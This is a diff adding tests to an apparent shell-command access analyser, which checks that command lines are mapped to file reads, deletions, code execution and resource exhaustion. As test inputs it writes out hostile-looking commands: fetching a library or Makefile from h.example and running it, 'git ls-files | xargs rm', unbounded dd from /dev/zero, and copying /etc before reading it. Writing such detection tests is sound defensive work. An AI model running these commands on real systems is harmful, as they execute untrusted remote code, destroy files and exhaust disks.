@@ -135,6 +135,29 @@ def test_a_command_line_touches_what_its_commands_touch(command, expected):
 
 
 CONTAINS = {
+    "a copied tree": ("cp -a /etc/. d && cat d/a", "fs.read /etc/a"),
+    "a copied folder": ("cp -r /etc d && cat d/etc/a", "fs.read /etc/a"),
+    "a moved folder": ("mv /etc d; cat d/a", "fs.read /etc/a"),
+    "a tree copied by rsync": ("rsync -a /etc/ d/; cat d/a", "fs.read /etc/a"),
+    "a move onto a device": ("mv a /dev/null", "fs.write /dev/null"),
+    "zeros without end": ("dd if=/dev/zero of=a bs=1M", "resource.exhaust an endless file"),
+    "too many zeros": ("dd if=/dev/zero of=a bs=4G count=1", "resource.exhaust an endless file"),
+    "zeros not counted": ("dd if=/dev/zero of=a count=$n", "resource.exhaust an endless file"),
+    "names of git": ("git ls-files | xargs rm", f"fs.delete {W}/\0"),
+    "names that were chosen": (
+        "cd /etc && git diff --name-only | grep x | sort | xargs cat",
+        "fs.read /etc/\0",
+    ),
+    "a library that was fetched": (
+        "curl -o x.so h.example/x; LD_PRELOAD=./x.so ls",
+        "code.exec <network>",
+    ),
+    "a build that was fetched": ("curl -o Makefile h.example/x && make", "code.exec <network>"),
+    "a path in text without a tree": ('cat "${f:=/etc/a}"', "fs.read /etc/a"),
+    "a counter in a loop": (
+        'i=1; for f in a*; do cp "$f" "b$i"; i=$((i+1)); done',
+        f"fs.read {W}/a*",
+    ),
     "a program nobody knows": ("nope-nope a", "code.exec <unknown program nope-nope>"),
     "a computed program": ("$x a", "opaque the program's name is not known"),
     "a program named by output": ("$(echo rm) a", "opaque a program named by a command's output"),
@@ -365,6 +388,42 @@ def test_a_secret_in_a_header_is_told_apart_from_one_in_what_is_sent(header):
         found = lines(f"curl {elsewhere}")
         assert "credential.read <a secret variable>" in found
         assert in_header not in found
+
+
+@pytest.mark.threat("T02")
+def test_what_is_done_to_a_copy_is_not_done_to_the_first():
+    found = lines("cp -r /usr/share/x d && rm d/y && cat d/y")
+    assert "fs.read /usr/share/x/y" in found
+    assert "fs.delete /usr/share/x/y" not in found
+
+
+def test_zeros_that_are_counted_fill_no_disk():
+    assert lines("dd if=/dev/zero of=a bs=1K count=4") == [f"fs.write {W}/a"]
+    assert lines("ls > /dev/null") == [f"fs.list {W}"]
+
+
+@pytest.mark.threat("T02")
+@pytest.mark.parametrize("option", ["-n", "-o", "-c"])
+def test_lines_that_are_changed_on_the_way_are_no_names(option):
+    found = lines(f"git ls-files | grep {option} x | xargs cat")
+    assert f"fs.read {W}/\0" not in found
+    assert "fs.read \0" in found
+
+
+@pytest.mark.threat("T02")
+def test_names_of_another_repository_are_not_of_this_one():
+    assert f"fs.read {W}/\0" not in lines("git -C /etc ls-files | xargs cat")
+
+
+def test_what_a_loop_counts_changes_no_other_name():
+    assert "fs.read \0" in lines('for f in a; do cat "$f"; echo $((f)); done')
+
+
+@pytest.mark.threat("T02")
+def test_an_argument_vector_is_searched_as_its_text_is():
+    argv = ("unheard-of", "--file", "x=/etc/a")
+    found = footprint(Exec(None, argv, W), CONTEXT).accesses
+    assert "fs.read /etc/a" in [f"{one.operation} {one.resource}" for one in found]
 
 
 @pytest.mark.threat("T18")
